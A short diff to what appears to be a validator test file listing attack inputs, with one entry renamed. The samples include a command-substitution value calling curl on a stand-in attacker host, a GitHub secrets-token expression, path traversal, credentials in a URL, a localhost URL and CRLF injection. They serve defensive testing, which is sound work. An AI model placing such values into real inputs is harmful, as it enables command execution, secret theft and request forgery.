@@ -47,7 +47,7 @@ ATTACKS: dict[str, object] = {
     "an expression for an id": suggested(arxiv="${{ secrets.GITHUB_TOKEN }}"),
     "a command in an id": suggested(arxiv="$(curl evil.example)"),
     "a topic that is none": suggested(topic="../topics"),
-    "a kind that is none": suggested(kind="virus"),
+    "a contribution that is none": suggested(gives="virus"),
     "a link with a password": suggested(code="https://user:pass@example.org/"),
     "a link to this machine": suggested(code="http://localhost/"),
     "two lines of title": suggested(title="One\r\nkey=index"),
